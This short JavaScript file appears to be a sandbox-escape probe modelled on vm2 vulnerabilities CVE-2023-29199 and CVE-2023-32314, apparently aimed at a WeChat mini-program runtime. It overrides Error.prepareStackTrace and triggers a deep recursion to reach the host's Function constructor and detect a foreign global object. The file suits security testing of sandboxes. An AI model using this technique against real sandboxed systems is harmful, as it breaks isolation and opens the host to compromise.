// Lets the stack overflow inside the host, and receives its error in Error.prepareStackTrace
// Source: CVE-2023-29199, CVE-2023-32314 (vm2)
Error.prepareStackTrace = (error) => {
  const f = error.constructor.constructor;
  try {
    if (f('return this')() !== globalThis) console.log('ESCAPED: another global object');
  } catch (e) {}
  return 's';
};
const deep = () => {
  try { deep(); } catch (e) { return e && e.stack; }
  try { wx.invokeNativePlugin({ api_name: 'echo' }); } catch (e) { return e && e.stack; }
};
deep();
